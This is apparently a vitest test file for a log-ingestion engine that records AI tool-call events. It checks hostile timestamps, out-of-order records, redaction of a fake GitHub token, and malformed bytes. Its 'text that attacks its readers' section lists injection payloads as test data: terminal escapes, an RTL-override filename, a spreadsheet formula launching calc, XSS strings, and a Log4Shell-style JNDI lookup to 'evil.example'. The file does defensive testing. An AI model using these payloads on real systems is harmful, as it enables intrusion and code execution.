// Hostile times, order, secrets, markup and bytes through the whole work of a worker. engine.ts checks the law and
// every document on the way.
import { beforeAll, describe, expect, test } from "vitest";
import { FIELDS } from "../../src/core/generated/event.ts";
import { LIMITS } from "../../src/core/limits.ts";
import type { Engine } from "../../src/engine.ts";
import {
  type Document,
  NOW_MS,
  between,
  callOf,
  eventsOf,
  line,
  newEngine,
  rawCall,
  read,
} from "./engine.ts";

let engine: Engine;
beforeAll(async () => {
  engine = await newEngine();
});

function one(input: string | Uint8Array): Document {
  const documents = eventsOf(between(engine, input));
  expect(documents).toHaveLength(1);
  return documents[0]!;
}
const argsOf = (document: Document): Document => document["gen_ai"].tool.call.arguments as Document;

const timed = (ts: string, session: string): Document =>
  one(line(callOf({}), { session }).replace('"2026-11-01T00:00:00.000Z"', () => ts));

describe("times", () => {
  const SECONDS = 1_767_225_600;
  test.each([
    [`${SECONDS}`, "2026-01-01T00:00:00.000Z"],
    [`${SECONDS}000`, "2026-01-01T00:00:00.000Z"],
    [`${SECONDS}000000`, "2026-01-01T00:00:00.000Z"],
    [`${SECONDS}000000001`, "2026-01-01T00:00:00.000Z"],
    ['"2026-01-01T14:00:00+14:00"', "2026-01-01T00:00:00.000Z"],
    ['"2026-06-30T23:59:60Z"', "2026-06-30T23:59:59.999Z"],
    ['"0001-01-01T00:00:00Z"', "0001-01-01T00:00:00.000Z"],
    ['"2026-01-01T00:00:00.123456789Z"', "2026-01-01T00:00:00.123Z"],
  ])("%s is read", (ts, time) => {
    const document = timed(ts, `time ${ts}`);
    expect(document["@timestamp"]).toBe(time);
    expect(document["tapline"].time.source).toBe("record");
  });
  test.each([
    '"9999-12-31T23:59:59.999Z"',
    '"+275760-09-13T00:00:00.000Z"',
    '"0000-01-01T00:00:00.000Z"',
    '"2026-11-25T12:00:00Z"',
    '"2026-01-01T24:00:00Z"',
    '"2026-01-01T00:00:00"',
    '"2026-02-30T00:00:00Z"',
    '"yesterday"',
    "8640000000000000",
    "8640000000000001",
    "1e308",
    "-1e30",
    "1e400",
    "null",
    "[1]",
    '{"a":1}',
    "true",
    `"${"9".repeat(100_000)}"`,
  ])("%.40s is suspect, and the stream's time stands in", (ts) => {
    const document = timed(ts, `no time ${ts.slice(0, 50)}`);
    expect(document["@timestamp"]).toBe(new Date(NOW_MS).toISOString());
    expect(document["tapline"].time).toMatchObject({ source: "arrival", suspect: true });
  });
  test("out of order, jumping by days, with the end before the beginning", () => {
    const times = ["2026-11-03", "2026-11-01", "2026-11-05", "2026-10-31", "2026-11-03"];
    const lines = times.flatMap((day, i) => {
      const of = { session: "jumps", ts: `${day}T00:00:00.000Z` };
      const reply = { jsonrpc: "2.0", id: i, result: { content: [] } };
      const before = { ...of, ts: `${day}T00:00:00.000Z`.replace("2026-1", "2025-1"), dir: "s2c" };
      return [line(callOf({ i }, i), of), line(reply, i % 2 === 0 ? { ...of, dir: "s2c" } : before)];
    });
    const documents = eventsOf(read(engine, lines.join("\n")));
    expect(documents.map((d) => d["log"].offset as number)).toEqual(
      documents.map((d) => d["log"].offset as number).toSorted((a, b) => a - b),
    );
    for (const document of documents) {
      expect(document["event"].duration ?? 0).toBeGreaterThanOrEqual(0);
      if (document["event"].action === "tool-result") expect(document["tapline"].call.joined).toBe(true);
    }
  });
});

const answer = (id: unknown): string => line({ jsonrpc: "2.0", id, result: { content: [] } }, { dir: "s2c" });

test("answers without a call, calls without an answer, one id many times", () => {
  const ids = [7, 7, "7", null, undefined, {}, [7], true, -1, 1.5, "", "é".repeat(300)];
  const lines = [
    ...ids.map(answer),
    ...ids.map((id) => line(callOf({}, id))),
    ...ids.map(answer),
    ...ids.map(answer),
  ];
  expect(eventsOf(read(engine, lines.join("\n")))).toHaveLength(lines.length);
});

const TOKEN = `ghp_${"aB3dE6gH9kL2".repeat(3)}`;
describe("secrets", () => {
  test.each<[string, string]>([
    ["in a value", rawCall(JSON.stringify({ token: TOKEN }))],
    ["in a key", rawCall(JSON.stringify({ [TOKEN]: 1 }))],
    ["in a URL", rawCall(JSON.stringify({ url: `https://bot:${TOKEN}@git.example/x` }))],
    ["deeper than an object may nest", rawCall(`${'{"a":['.repeat(12)}"${TOKEN}"${"]}".repeat(12)}`)],
    ["in a text that moves out", rawCall(JSON.stringify({ content: `${"x ".repeat(40_000)}${TOKEN}` }))],
    ["in an id, a name, the user", line(callOf({}, TOKEN, TOKEN), { user: TOKEN, session: "tokens" })],
    ["in an unknown record", JSON.stringify({ what: [TOKEN] })],
    ["in a line that is no JSON", `{"token":"${TOKEN}"`],
    ["across the cut of such a line", `{${" ".repeat(LIMITS.raw_bytes - 20)}"${TOKEN}"${" ".repeat(5_000)}`],
    ["in a line that is too deep", `${"[".repeat(5_000)}"${TOKEN}"`.slice(-LIMITS.raw_bytes + 100)],
    ["after a repeated key", rawCall(`{"a":"${TOKEN}","a":"${TOKEN}"}`)],
    ["in an error", line({ jsonrpc: "2.0", id: 1, error: { code: 1, message: TOKEN, data: { t: TOKEN } } })],
    ["in a time", line(callOf({}), { ts: TOKEN })],
  ])("%s", (_, text) => {
    const { texts, result } = between(engine, text);
    const all = texts.join("\n") + result.blobs.map((b) => Buffer.from(b.bytes).toString()).join("\n");
    expect(all).not.toContain(TOKEN);
    expect(all).not.toContain(TOKEN.slice(0, 14));
    expect(JSON.stringify([result.alerts, result.counts])).not.toContain(TOKEN);
  });
  test("in a line that is not UTF-8", () => {
    const bytes = Buffer.concat([
      Buffer.from(`{"token":"${TOKEN}","name":"`),
      Buffer.from([0xff, 0xfe, 0x80, 0x22, 0x7d]),
    ]);
    const document = one(bytes);
    expect(JSON.stringify(document)).not.toContain(TOKEN);
    // No byte is lost.
    expect(Buffer.from(document["event"].original as string, "latin1").subarray(-6)).toEqual(
      bytes.subarray(-6),
    );
  });
  test("in the name of the session and of the connection, and what is made of them", () => {
    const of = { session: TOKEN, conn: TOKEN };
    const reply = line({ jsonrpc: "2.0", id: TOKEN, result: { content: [] } }, { ...of, dir: "s2c" });
    const { texts } = read(engine, `${line(callOf({}, TOKEN, TOKEN), of)}\n${reply}`);
    expect(texts.length).toBeGreaterThanOrEqual(2);
    expect(texts.join("\n")).not.toContain(TOKEN);
  });
});

describe("text that attacks its readers", () => {
  test.each([
    "\u001b[31mred\u001b]0;title\u0007",
    "\u202Etxt.exe\u2066",
    "=cmd|' /C calc'!A0",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "${jndi:ldap://evil.example/a}",
    '"},"event":{"id":"forged","kind":"alert"}}\n{"create":{"_index":"x"}}',
    "line\nbreak\r\nand\u2028more\u2029",
    "\u0000\u0001\u007f\u0085",
    "\ud800 alone, \udfff too",
    "\\u0022},",
  ])("%j is stored as data", (text) => {
    const document = one(
      line(callOf({ text, list: [text] }, text, text), { user: text, client: { name: text } }),
    );
    expect(argsOf(document)).toEqual({ text, list: [text] });
    expect(document["gen_ai"].tool.name).toBe(text);
    expect(document["user"].name).toBe(text);
    expect(document["event"].kind).not.toBe("alert");
  });

  test("no field of a mapping lets text out of its quotes", () => {
    const text = '"},"event":{"id":"forged';
    const found: string[] = [];
    for (const name of Object.keys(FIELDS)) {
      try {
        const options = { fields: { [name]: "v" } };
        const { documents } = read(engine, JSON.stringify({ v: text }), { format: "json", options });
        expect(documents[0]!["event"].id, name).not.toContain("forged");
        found.push(name);
      } catch (error) {
        expect((error as { code?: string }).code, `${name}: ${String(error)}`).toBe("mapping_invalid");
      }
    }
    expect(found).toContain("event.outcome");
    expect(found.length).toBeGreaterThan(80);
  });
});

describe("bytes", () => {
  const good = line(callOf({ a: "ü" }, 5));
  test("byte order mark", () => expect(argsOf(one(`\ufeff${good}`))).toEqual({ a: "ü" }));
  test("CRLF, blank lines, spaces", () => {
    const { result } = read(engine, `${good}\r\n\r\n\n${good}\r\n  \n${good}`);
    expect(result.counts).toMatchObject({ recorded: 4, unparsable: 1, skipped: { blank: 2 } });
  });
  test("lone CR between values, and two glued together", () => {
    expect(eventsOf(read(engine, `${good}\r${good}\r${good}`))).toHaveLength(3);
    expect(eventsOf(read(engine, good + good))).toHaveLength(2);
    expect(eventsOf(read(engine, `${good}{"cut":`))[0]!["error"].type).toBe("not_json");
    expect(eventsOf(read(engine, `${good}, ${good}`))[0]!["error"].type).toBe("not_json");
  });
  test("U+2028 and U+2029 are text", () =>
    expect(argsOf(one(rawCall('{"a":"\u2028\u2029"}')))).toEqual({ a: "\u2028\u2029" }));
  test("NUL", () => {
    const document = one(Buffer.concat([Buffer.alloc(5_000), Buffer.from(good)]));
    expect(document["error"].type).toBe("not_json");
    expect(one(good.replace("ü", "\u0000"))["error"].type).toBe("not_json");
    expect(argsOf(one(good.replace("ü", "\\u0000")))).toEqual({ a: "\u0000" });
  });
  test.each([
    [0xff],
    [0xc3],
    [0xed, 0xa0, 0x80],
    [0xc0, 0x80],
    [0xf8, 0x88, 0x80, 0x80, 0x80],
    [0xf4, 0x90, 0x80, 0x80],
  ])("invalid UTF-8 %#", (...codes) => {
    const [head, tail] = good.split("ü") as [string, string];
    const bytes = Buffer.concat([Buffer.from(head), Buffer.from(codes), Buffer.from(tail)]);
    const document = one(bytes);
    expect(document["error"].type).toBe("not_utf8");
    expect(Buffer.from(document["event"].original as string, "latin1").equals(bytes)).toBe(true);
  });
  test.each(["utf16le", "utf16be"])("a file of %s", (encoding) => {
    const text = Buffer.from(`\ufeff${[good, good, good].join("\n")}\n`, "utf16le");
    const { result, documents } = read(engine, encoding === "utf16le" ? text : text.swap16());
    expect(result.counts.unparsable).toBe(result.counts.read);
    expect(documents.length).toBeGreaterThanOrEqual(3);
  });
  test("a line of 16 MB, of one text, of many values, of nothing", () => {
    expect(one(rawCall(JSON.stringify({ a: "é".repeat(7_500_000) })))["tapline"].blob.bytes).toEqual([
      15_000_000,
    ]);
    expect(one(rawCall(`[${"1,".repeat(7_000_000)}1]`))["tapline"].blob.fields).toEqual([
      "gen_ai.tool.call.arguments",
    ]);
    expect(one(rawCall(`{"a":"${"\\u0001".repeat(2_500_000)}"}`))["tapline"].blob.bytes).toEqual([2_500_000]);
    expect(one("x".repeat(15_000_000))["tapline"].data).toMatchObject({
      bytes_in: 15_000_000,
      truncated: ["event.original"],
    });
  }, 60_000);
});
